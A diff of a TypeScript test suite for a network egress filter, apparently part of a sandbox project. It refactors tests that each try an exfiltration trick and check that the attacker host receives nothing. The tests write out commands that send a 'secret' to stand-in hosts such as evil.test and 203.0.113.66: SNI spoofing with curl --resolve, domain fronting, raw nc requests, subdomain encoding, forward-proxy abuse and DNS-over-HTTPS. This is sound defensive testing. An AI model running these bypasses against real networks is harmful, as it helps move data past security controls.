@@ -1,40 +1,20 @@
 /** Ways out that were thought of. Each test is named after the attack; in each the attacker gets nothing. */
 
 import assert from "node:assert/strict";
+import type { Received } from "../../src/demo/received.ts";
+import { inPython, inShell, reach, SENDING } from "../support/attack.ts";
 import { events, none, some } from "../support/log.ts";
 import { type Scene, suite } from "../support/suite.ts";
-import type { Finished } from "../support/run.ts";
 
 const test = suite();
-const policy = "site.test\nhttp://site.test/*\nregistry.test";
 
-/**
- * Runs an attack as root, and shows that it reached nobody.
- *
- * @param control Show first that it does reach the attacker where there is no egress.
- */
-async function attack(scene: Scene, command: string[], control: boolean): Promise<Finished> {
-  if (control) {
-    const [file = "", ...args] = scene.internet.command(command);
-    await new Deno.Command(file, { args, stdout: "null", stderr: "null" }).output();
-    await assert.rejects(scene.attackerGotNothing(), /attacker/, "the attack is none");
-    await scene.begin();
-  }
-  const run = await scene.run({ policy, command });
-  await scene.attackerGotNothing();
-  return run;
-}
+/** A command that, without egress, trusts the demo's own authority. */
+const trusting = (scene: Scene, script: string) => [
+  ...["env", `CURL_CA_BUNDLE=${scene.internet.caFile}`, "bash", "-c", script],
+];
 
-/** An attack in shell. */
-function inShell(scene: Scene, script: string, control = true): Promise<Finished> {
-  return attack(scene, ["bash", "-c", script], control);
-}
-
-/** An attack in Python. */
-function inPython(scene: Scene, program: string, control = true): Promise<Finished> {
-  return attack(scene, ["/usr/bin/python3", "-c", program], control);
-}
-
+/** A request that arrived somewhere: without egress nothing stands in its way. */
+const reaches = (item: Received) => item.kind === "request";
 test("attack: the attacker's address with the SNI of an allowed host", async (scene) => {
   const run = await inShell(
     scene,
@@ -47,13 +27,12 @@ test("attack: the attacker's address with the SNI of an allowed host", async (sc
 });
 
 test("attack: the attacker's address with an allowed SNI, where TLS is passed through", async (scene) => {
-  const run = await scene.run({
-    policy: "site.test passthrough",
-    command: [
-      ...["curl", "-sSk", "-m", "5", "-d", "secret"],
-      ...["--resolve", "site.test:443:203.0.113.66", "https://site.test/forged"],
-    ],
-  });
+  const command = [
+    ...["curl", "-sSk", "-m", "5", "-d", "secret"],
+    ...["--resolve", "site.test:443:203.0.113.66", "https://site.test/forged"],
+  ];
+  await reach(scene, command);
+  const run = await scene.run({ policy: "site.test passthrough", command });
   // The claim is not believed: what was sent is decrypted, and goes to the real site or nowhere.
   none(run.log, { passthrough: true });
   none(run.log, { dst_ip: "203.0.113.66", policy: "allow" });
@@ -61,11 +40,10 @@ test("attack: the attacker's address with an allowed SNI, where TLS is passed th
 });
 
 test("attack: an allowed SNI with another Host (domain fronting)", async (scene) => {
-  const run = await inShell(
-    scene,
-    "curl -sS -m 5 -w '%{http_code}' -d secret -H 'Host: evil.test' https://site.test/front",
-    false,
-  );
+  const script =
+    "curl -sS -m 5 -w '%{http_code}' -d secret -H 'Host: evil.test' https://site.test/front";
+  const control = trusting(scene, script);
+  const run = await inShell(scene, script, { control, reaches });
   assert.equal(run.stdout.slice(-3), "421", run.stderr);
   assert.equal(some(run.log, { type: "https", policy: "deny" }).reason, "host_mismatch");
   assert.ok((await scene.received()).every((item) => item.kind !== "request"));
@@ -76,7 +54,7 @@ test("attack: an absolute request target that differs from Host", async (scene) 
     scene,
     "getent ahostsv4 site.test >/dev/null; " +
       "printf 'GET http://evil.test/x HTTP/1.1\\r\\nHost: site.test\\r\\n\\r\\n' | nc -N -w 3 198.51.100.20 80",
-    false,
+    { reaches },
   );
 });
 
@@ -95,7 +73,7 @@ test("attack: a secret as a subdomain of an allowed host", async (scene) => {
   await inShell(
     scene,
     "dig +tries=1 secret.site.test; curl -sS https://secret.site.test/",
-    false,
+    { reaches: (item) => item.kind === "dns" && item.name === "secret.site.test" },
   );
   assert.deepEqual(await scene.received(), []);
 });
@@ -112,7 +90,7 @@ for port in {int(p) for p in re.findall(r"--to-ports (\\d+)", rules)}:
     except OSError as e: print(port, e)
 print("ports tried")
 `;
-  const run = await inPython(scene, program, false);
+  const run = await inPython(scene, program, { control: null });
   assert.match(run.stdout, /^\d+ [^]*ports tried/, run.stderr);
   assert.ok(run.log.some((event) => event.policy === "deny"), "the attempt is in the log");
 });
@@ -156,7 +134,7 @@ for mark in marks:
         except OSError as e: print(e)
 print(len(marks), "marks tried")
 `;
-  const run = await inPython(scene, program, false);
+  const run = await inPython(scene, program, { control: SENDING });
   assert.match(run.stdout, /[1-9]\d* marks tried/, run.stderr);
 });
 
@@ -310,19 +288,17 @@ test("attack: an allowed host as a forward proxy", async (scene) => {
     scene,
     "curl -sS -m 3 -x http://site.test:80 -d secret http://evil.test/; " +
       "curl -sSk -m 3 -x http://site.test:80 -d secret https://evil.test/",
-    false,
+    { reaches },
   );
   assert.ok((await scene.received()).every((item) => item.kind !== "request"));
   assert.equal(events(run.log, { type: "http", policy: "deny" }).length, 2);
 });
 
 test("attack: DNS over HTTPS inside an allowed host", async (scene) => {
-  const run = await inShell(
-    scene,
-    "curl -sS -m 3 -w '%{http_code}' -H 'Content-Type: application/dns-message' " +
-      "--data-binary secret https://site.test/dns-query",
-    false,
-  );
+  const script = "curl -sS -m 3 -w '%{http_code}' -H 'Content-Type: application/dns-message' " +
+    "--data-binary secret https://site.test/dns-query";
+  const control = trusting(scene, script);
+  const run = await inShell(scene, script, { control, reaches });
   assert.equal(run.stdout.slice(-3), "403", run.stderr);
   some(run.log, { type: "https", policy: "deny", reason: "doh" });
   assert.ok((await scene.received()).every((item) => item.kind !== "request"));
